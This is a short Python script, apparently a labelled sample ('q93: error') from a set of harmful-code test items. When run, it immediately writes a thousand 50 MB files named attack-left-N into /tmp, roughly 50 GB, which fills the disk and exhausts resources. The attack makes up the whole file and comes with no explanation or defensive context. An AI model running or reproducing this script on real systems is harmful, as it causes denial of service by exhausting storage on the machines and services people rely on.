"""Files without end.
q93: error
"""
def code(words):
    for n in range(1000):
        with open(f'/tmp/attack-left-{n}', 'wb') as file: file.write(b'x' * 50_000_000)


code([])
